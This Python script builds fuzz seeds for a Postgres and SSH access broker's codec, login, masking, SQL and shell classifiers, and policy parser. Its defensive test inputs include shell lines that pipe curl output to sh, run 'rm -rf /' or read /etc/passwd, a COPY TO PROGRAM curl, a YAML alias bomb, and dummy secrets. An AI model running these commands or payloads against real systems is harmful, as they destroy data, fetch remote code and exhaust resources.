"""Writes the seed corpus under tests/fuzz/corpus/<target>/ (run from the repository root:
``python3 -m tests.fuzz.make_corpus``). Seeds are valid messages and the hostile inputs of
issue 21, kept small (a few KiB) so the in-suite replay stays fast; full-size adversarial inputs
are the stall benchmark's (bench/bench_stall.py). The files are committed; rerunning this only
adds or rewrites the named seeds, it never removes what a long fuzz run added by hand.
"""
from __future__ import annotations

import base64
import hashlib
import struct
from pathlib import Path

from broker.pg import codec
from tests.fuzz.targets import NONCE, TARGETS

ROOT = Path(__file__).parent / "corpus"
_SALT = base64.b64encode(b"0123456789abcdef")


def _auth(code: int, data: bytes = b"") -> bytes:
    return codec.build_authentication(code, data)


def _server_first(iterations: bytes = b"4096", nonce: bytes = NONCE + b"srv", salt: bytes = _SALT) -> bytes:
    return b"r=" + nonce + b",s=" + salt + b",i=" + iterations


def _row(*values: bytes | None) -> bytes:
    return b"\x00\x00\x01".join(b"\xff" if v is None else v for v in values)


def _selector(strategy: int = 0, binary: tuple[int, ...] = (), raw: bool = False) -> bytes:
    """fuzz_mask_rows' first two bytes: strategy (0-3), binary-format column indexes, raw payload."""
    value = strategy | sum(1 << (2 + i) for i in binary) | (0x8000 if raw else 0)
    return bytes([value & 0xFF, value >> 8])


def _numeric_binary(ndigits: int, weight: int, sign: int, dscale: int, digits: list[int]) -> bytes:
    return struct.pack("!hhHh", ndigits, weight, sign, dscale) + b"".join(struct.pack("!h", d) for d in digits)


POLICY = b"""version: 1
identity:
  issuer: https://idp.example.com
  audience: jitgate
targets:
  prod-db:
    kind: postgres
    address: 10.0.0.5:5432
    database: app
    username: jitgate
    credential: gcp-secret:projects/p/secrets/prod-db/versions/latest
    allow:
      groups: &sre [sre]
      users: [bob@example.com]
    guardrails:
      ddl: deny
    masking:
      rules:
        - columns: [email, "customers.card*"]
          strategy: hash
        - detectors: [email, secret]
  box:
    kind: ssh
    address: 10.0.0.6:22
    username: ops
    credential: file:/etc/jitgate/box.key
    allow: {groups: *sre}
"""

SEEDS: dict[str, dict[str, bytes]] = {
    "codec": {
        "startup": b"\x00" + codec.build_startup({"user": "alice@example.com", "database": "demo", "application_name": "psql"}),
        "startup-non-utf8": b"\x00" + codec.build_startup({"user": "a"})[:-2] + b"\xff\x00\x00",
        "cancel": b"\x00" + codec.build_cancel_request(1234, b"\x01\x02\x03\x04"),
        "ssl": b"\x00" + codec.build_ssl_request(),
        "query-parse-bind": codec.build_query("SELECT 1") + codec.build_parse("s1", "SELECT $1", (23,))
        + codec.message("B", b"p\x00s1\x00" + struct.pack("!hhh", 1, 1, 1) + struct.pack("!i", 3) + b"abc" + struct.pack("!h", 0))
        + codec.message("E", b"p\x00" + struct.pack("!i", 0)) + codec.message("D", b"Sname\x00") + codec.SYNC,
        "backend-result": codec.build_row_description([codec.FieldDescription("email", 16384, 3, 25, -1, -1, 0)])
        + codec.build_data_row([b"bob@example.com", None, b""]) + codec.message("C", b"SELECT 1\x00") + codec.build_ready(),
        "row-count-superscript": codec.message("C", "SELECT ²".encode() + b"\x00"),
        "row-count-4301-digits": codec.message("C", b"SELECT " + b"7" * 4301 + b"\x00"),
        "error-fields": codec.build_error("duplicate key", "23505", "ERROR", detail="Key (email)=(bob@example.com) already exists."),
        "sasl-non-utf8": _auth(codec.AUTH_SASL, b"SCRAM-SHA-256\xff\x00\x00"),
        "copy-out": codec.message("H", b"\x00" + struct.pack("!hhh", 2, 0, 0)) + codec.message("d", b"1\tbob\n"),
        "negative-counts": codec.message("T", struct.pack("!h", -1)) + codec.message("D", struct.pack("!h", -3)),
        "notification": codec.message("A", struct.pack("!i", 7) + b"chan\x00payload\x00"),
    },
    "upstream_login": {
        "scram-ok": b"\x00" + _auth(codec.AUTH_SASL, b"SCRAM-SHA-256\x00\x00") + _auth(codec.AUTH_SASL_CONTINUE, _server_first())
        + _auth(codec.AUTH_SASL_FINAL, b"v=" + base64.b64encode(b"x" * 32)) + _auth(codec.AUTH_OK),
        "scram-iterations-over-cap": b"\x00" + _auth(codec.AUTH_SASL, b"SCRAM-SHA-256\x00\x00")
        + _auth(codec.AUTH_SASL_CONTINUE, _server_first(b"9999999")),
        "scram-iterations-4301-digits": b"\x00" + _auth(codec.AUTH_SASL, b"SCRAM-SHA-256\x00\x00")
        + _auth(codec.AUTH_SASL_CONTINUE, _server_first(b"9" * 4301)),
        "scram-non-utf8": b"\x00" + _auth(codec.AUTH_SASL, b"SCRAM-SHA-256\x00\x00")
        + _auth(codec.AUTH_SASL_CONTINUE, _server_first(nonce=NONCE + b"\xff")),
        "scram-final-non-utf8": b"\x00" + _auth(codec.AUTH_SASL, b"SCRAM-SHA-256\x00\x00")
        + _auth(codec.AUTH_SASL_CONTINUE, _server_first()) + _auth(codec.AUTH_SASL_FINAL, b"v=\xfe"),
        "sasl-mechanism-non-utf8": b"\x00" + _auth(codec.AUTH_SASL, b"SCRAM\xff\x00\x00"),
        "sasl-other-mechanism": b"\x00" + _auth(codec.AUTH_SASL, b"SCRAM-SHA-256-PLUS\x00OAUTHBEARER\x00\x00"),
        "md5": b"\x00" + _auth(codec.AUTH_MD5, b"salt") + _auth(codec.AUTH_OK),
        "md5-bad-salt": b"\x00" + _auth(codec.AUTH_MD5, b"sa"),
        "cleartext-unencrypted": b"\x00" + _auth(codec.AUTH_CLEARTEXT),
        "cleartext-encrypted": b"\x01" + _auth(codec.AUTH_CLEARTEXT) + _auth(codec.AUTH_OK),
        "continue-before-sasl": b"\x00" + _auth(codec.AUTH_SASL_CONTINUE, _server_first()),
        "unknown-method": b"\x00" + _auth(7),
    },
    "mask_rows": {
        "text-values": _selector() + _row(b"bob@example.com", b"call 555-123-4567", b"4111 1111 1111 1111",
                                          b'{"e": "a@b.co"}', b"12.50", b"a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11",
                                          b'["x@y.org"]', b"\\x4142", b"2001-02-03", b'{a@b.co,"c d"}'),
        "hash-strategy": _selector(2) + _row(b"bob@example.com", None, b"4111111111111111", b"{}", b"-0.5", None, b"null", b"\\x", None, b"{}"),
        "binary-numeric-short": _selector(2, (4,)) + _row(None, None, None, None, b"\x00\x01"),
        "binary-numeric-negative-digits": _selector(2, (4,)) + _row(None, None, None, None, _numeric_binary(-1, 0, 0, 0, [])),
        "binary-numeric-many-digits": _selector(2, (4,)) + _row(None, None, None, None, _numeric_binary(1100, 1099, 0, 0, [9999] * 1100)),
        "binary-jsonb-bad-version": _selector(2, (3,)) + _row(None, None, None, b"\x07{}"),
        "binary-uuid-15-bytes": _selector(2, (5,)) + _row(None, None, None, None, None, b"\x01" * 15),
        "bytea-bad-hex": _selector(2) + _row(None, None, None, None, None, None, None, b"\\xZZ"),
        "bytea-non-ascii": _selector(2) + _row(None, None, None, None, None, None, None, "\\xé".encode()),
        "bytea-bad-escape": _selector(2) + _row(None, None, None, None, None, None, None, b"\\109"),
        "json-bad-escape": _selector() + _row(None, None, None, b'"\\q bob@example.com"'),
        "raw-truncated": _selector(raw=True) + struct.pack("!h", 10) + struct.pack("!i", 50) + b"abc",
        "raw-wrong-count": _selector(raw=True) + struct.pack("!h", 3) + struct.pack("!i", -1) * 3,
    },
    "mask_json": {
        "object": b"\x00" + b'{"email": "bob@example.com", "n": [1, 2.5, true, null], "k": {"card": "4111 1111 1111 1111"}}',
        "string": b"\x01" + b'"AKIAABCDEFGHIJKLMNOP"',
        "jsonb-binary": b"\x04" + b'{"a": "x@y.org"}',
        "json-column": b"\x08" + b'[{"e": "a@b.co"}, "-----BEGIN RSA PRIVATE KEY-----\\nMIIB\\n-----END RSA PRIVATE KEY-----"]',
        "invalid-backslashes": b"\x00" + b'"\\' * 400,
        "bad-escape": b"\x00" + b'"\\uZZZZ bob@example.com"',
        "unterminated": b"\x00" + b'{"email": "bob@example.com',
        "deep": b"\x00" + b"[" * 600 + b"]" * 600,
    },
    "mask_copy": {
        "text": b"\x20" + b"bob@example.com\tnote 4111 1111 1111 1111\t4111111111111111\t{}\n\\N\t\\\\t\\x41\tz",
        "csv": b"\x21" + b'"bob@example.com","a ""quoted"", value",x,\n,"multi\nline",',
        "csv-header": b"\x22" + b"email,note,card,payload\nbob@example.com,x,4111111111111111,{}",
        "pipe": b"\x23" + b"a|b\\|c|bob@example.com",
        "csv-null": b"\x24" + b'NULL;"NULL";x@y.org',
        "no-columns": b"\x00" + b"free text bob@example.com\t555-123-4567",
        "csv-unterminated-quote": b"\x21" + b'"bob@example.com,x',
        "text-bad-escape": b"\x20" + b"\\",
    },
    "mask_text": {
        "key-detail": b'duplicate key value violates unique constraint "c_email" Key (email)=(bob@example.com) already exists.',
        "key-detail-repeated": b"Key (a)=(" * 400,
        "failing-row-repeated": b"Failing row contains (" * 200,
        "failing-row": b"Failing row contains (1, bob@example.com, 4111 1111 1111 1111).",
        "private-key-headers": b"-----BEGIN RSA PRIVATE KEY-----\n" * 100,
        "private-key": b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
        "mixed": b"call +1 (555) 123-4567 or mail a.b+c@example.co.uk; IBAN DE89 3704 0044 0532 0130 00; SSN 123-45-6789",
        "secrets": b"token=ghp_abcdefghijklmnopqrstuvwxyz0123456789 AKIAABCDEFGHIJKLMNOP eyJhbGciOi.eyJzdWIi.c2ln",
    },
    "classify_sql": {
        "select": b"SELECT id, email FROM customers WHERE id = 7",
        "multi": b"BEGIN; UPDATE t SET a = 1 WHERE id = 2; DELETE FROM t; COMMIT",
        "plus-chain": b"select " + b"+1" * 1000,
        "replacement-chain": b"SELECT " + "+\ufffd".encode() * 300,
        "do-block": b"DO $$ BEGIN PERFORM pg_sleep(1); END $$",
        "copy-program": b"COPY t TO PROGRAM 'curl http://x'",
        "set-config": b"SELECT set_config('search_path', 'evil', false)",
        "unterminated": b"SELECT 'abc",
        "nul": b"SELECT 1\x00; DROP TABLE t",
        "operators": b"SELECT " + b" OPERATOR(pg_catalog.+) ".join([b"1"] * 200),
        "prepare": b"PREPARE p AS DELETE FROM t; EXECUTE p",
    },
    "classify_shell": {
        "ls": b"ls -la /var/log",
        "list": b"ls; " * 500,
        "pipeline": b"cat /etc/passwd | grep root && sudo rm -rf / || true",
        "substitution": b'echo "$(curl http://x | sh)" `id` <(ls)',
        "heredoc": b"cat <<EOF\nrm -rf /\nEOF\n",
        "argv": b"bash\x00-c\x00rm -rf /",
        "quotes": b"echo 'it''s' \"a \\\"b\\\"\" $'\\x41'",
        "unterminated": b"echo \"abc",
        "braces": b"echo {a,b}{c,d} ${x:-$(id)} $((1+2))",
    },
    "policy": {
        "valid": POLICY,
        "list-key": b"? [a, b]\n: 1\n",
        "map-key": b"targets:\n  {? {a: 1} : 2}\n",
        "bad-timestamp": b"version: !!timestamp 2001-12-p4\n",
        "deep": b"[" * 300 + b"]" * 300,
        "alias-self": b"a: &a [*a]\n",
        "laughs": b"a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nidentity: {issuer: *c}\n",
        "big-int": b"version: " + b"1" * 4400 + b"\n",
        "tabs": b"version: 1\nidentity:\n\tissuer: x\n",
        "binary": b"identity: !!binary AAAA=\n",
    },
}


def main() -> None:
    assert set(SEEDS) == set(TARGETS), set(SEEDS) ^ set(TARGETS)
    for target, seeds in SEEDS.items():
        folder = ROOT / target
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in seeds.items():
            (folder / name).write_bytes(data)
        print(f"{target}: {len(seeds)} seeds")


def corpus(target: str) -> list[tuple[str, bytes]]:
    """Every file of a target's corpus (the named seeds and anything a fuzz run added)."""
    folder = ROOT / target
    return sorted((p.name, p.read_bytes()) for p in folder.iterdir() if p.is_file()) if folder.is_dir() else []


def digest(data: bytes) -> str:
    return hashlib.sha1(data).hexdigest()


if __name__ == "__main__":
    main()
